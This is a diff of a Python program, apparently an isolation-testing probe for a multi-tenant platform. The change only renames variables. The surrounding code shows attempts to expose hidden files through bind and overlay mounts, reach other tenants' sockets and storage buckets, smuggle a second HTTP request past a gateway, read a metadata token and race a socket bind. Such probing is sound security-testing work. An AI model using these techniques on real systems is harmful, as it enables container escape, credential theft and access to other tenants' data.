@@ -65,18 +65,18 @@ def in_child(attempt, *arguments):
             os.write(writer, str(attempt(*arguments) or "").encode()[:500])
         os._exit(0)
     os.close(writer)
-    with open(reader, "rb") as told:
-        found = said(told.read())
+    with open(reader, "rb") as pipe:
+        result = said(pipe.read())
     os.waitpid(child, 0)
-    return found
+    return result
 
 
 def first(attempt, candidates):
     """The first candidate that an attempt gets anything of."""
     for candidate in candidates:
         with contextlib.suppress(OSError, http.client.HTTPException, ValueError):
-            if found := attempt(candidate):
-                return f"{candidate}: {found}"
+            if result := attempt(candidate):
+                return f"{candidate}: {result}"
     return ""
 
 
@@ -85,8 +85,8 @@ def read(path):
     if os.path.isdir(path):
         return ", ".join(os.listdir(path)[:3])
     if stat.S_ISSOCK(os.stat(path).st_mode):
-        with socket.socket(socket.AF_UNIX) as one:
-            one.connect(path)
+        with socket.socket(socket.AF_UNIX) as connection:
+            connection.connect(path)
         return "connected"
     with open(path, "rb") as file:
         return file.read(64)
@@ -122,12 +122,12 @@ def metadata(place):
 def raw(place, *lines):
     """What a server answers to bytes that are no request of a client's."""
     host, port = place.split(":")
-    with socket.create_connection((host, int(port)), timeout=10) as one:
-        one.sendall(b"".join(lines))
-        one.settimeout(3)
+    with socket.create_connection((host, int(port)), timeout=10) as connection:
+        connection.sendall(b"".join(lines))
+        connection.settimeout(3)
         data = b""
         with contextlib.suppress(OSError):
-            while part := one.recv(4096):
+            while part := connection.recv(4096):
                 data += part
     return data
 
@@ -194,16 +194,16 @@ def undo_mounts():
         os.makedirs(copy, exist_ok=True)
         # A bind without what is mounted below would show what the mounts cover; an overlay likewise.
         libc.mount(b"/", copy.encode(), None, BIND, None)
-        if found := first(read, [copy + path for path in TARGET["service_files"]]):
-            return "a second bind, " + found
+        if result := first(read, [copy + path for path in TARGET["service_files"]]):
+            return "a second bind, " + result
         above = os.path.dirname(TARGET["data"])
         os.makedirs(copy + "2", exist_ok=True)
         libc.mount(
             b"overlay", (copy + "2").encode(), b"overlay", 0, f"lowerdir={above}:{copy}".encode()
         )
         inside = [path.replace(above, copy + "2", 1) for path in TARGET["service_files"]]
-        if found := first(read, inside):
-            return "an overlay, " + found
+        if result := first(read, inside):
+            return "an overlay, " + result
         for place in reversed(mounts()):
             libc.umount2(place.encode(), DETACH)
         return hidden()
@@ -470,8 +470,8 @@ def batch(place, token):
         f"GET /storage/v1/b/{other}/o HTTP/1.1\r\nX-Trainshed-Identity: {IDENTITY}\r\n\r\n\r\n--x--\r\n"
     )
     kind = {"Content-Type": "multipart/mixed; boundary=x"}
-    _, found = ask(place, "POST", "/batch/storage/v1", body, token, kind)
-    return b'"secret"' in found and "a batch"
+    _, result = ask(place, "POST", "/batch/storage/v1", body, token, kind)
+    return b'"secret"' in result and "a batch"
 
 
 def staged():
@@ -548,8 +548,8 @@ def by_ports():
     line = json.dumps({"project": TARGET["other_project"], "job_uid": 1}).encode() + b"\n"
     ask_for = b"GET %s HTTP/1.1\r\nHost: x\r\n\r\n" % paths_of_others()[0].encode()
     for place in (TARGET["storage_port"], TARGET["rest"]):
-        if found := steal(place, "") or steal(place, token):
-            return f"{place}: {found}"
+        if result := steal(place, "") or steal(place, token):
+            return f"{place}: {result}"
         if CANARY.search(raw(place, line, ask_for)):
             return f"{place}: an introduction"
         # Two requests where a careless gateway sees one.
@@ -610,8 +610,8 @@ def by_links():
 
 
 def abstract_sockets():
-    with socket.socket(socket.AF_UNIX) as one:
-        one.connect("\0" + TARGET["abstract"])
+    with socket.socket(socket.AF_UNIX) as connection:
+        connection.connect("\0" + TARGET["abstract"])
     return "connected"
 
 
@@ -629,8 +629,8 @@ def others_address():
 
 
 def bind_plainly(host):
-    with socket.socket() as one:
-        one.bind((host, 0))
+    with socket.socket() as listener:
+        listener.bind((host, 0))
     return "bound"
 
 
@@ -652,9 +652,9 @@ def bind_in_a_race(host):
     thread.start()
     try:
         for _ in range(300):
-            with socket.socket() as one:
-                libc.bind(one.fileno(), given, 16)
-                if one.getsockname()[0] == host:
+            with socket.socket() as listener:
+                libc.bind(listener.fileno(), given, 16)
+                if listener.getsockname()[0] == host:
                     return "bound in a race"
     finally:
         is_over.set()
@@ -816,20 +816,20 @@ def lay_traps():
 def main():
     if not os.path.exists(os.path.join(HOME, "work", "trapped")):
         lay_traps()
-    found, why = {}, {}
+    results, why = {}, {}
     for name, attempt in ATTEMPTS.items():
         begin = time.monotonic()
         try:
-            found[name] = str(attempt() or "")
+            results[name] = str(attempt() or "")
         except (OSError, http.client.HTTPException) as error:
-            found[name], why[name] = "", str(error)
+            results[name], why[name] = "", str(error)
         why[name] = f"{why.get(name, '')} {time.monotonic() - begin:.2f}s"
     print("PROCESS", MAIN)
     print("WHY " + json.dumps(why))
     print("CONTROLS " + json.dumps(controls()))
     # To be tried by gRPC, for which this program has no library.
     print("TOKEN " + metadata(ENDPOINT))
-    print("VERDICTS " + json.dumps(found), flush=True)
+    print("VERDICTS " + json.dumps(results), flush=True)
     # Whoever has heard it writes an object: until then its token is good.
     while ask(ENDPOINT, "GET", f"/storage/v1/b/{TARGET['own_bucket']}/o/heard")[0] != 200:
         time.sleep(0.1)
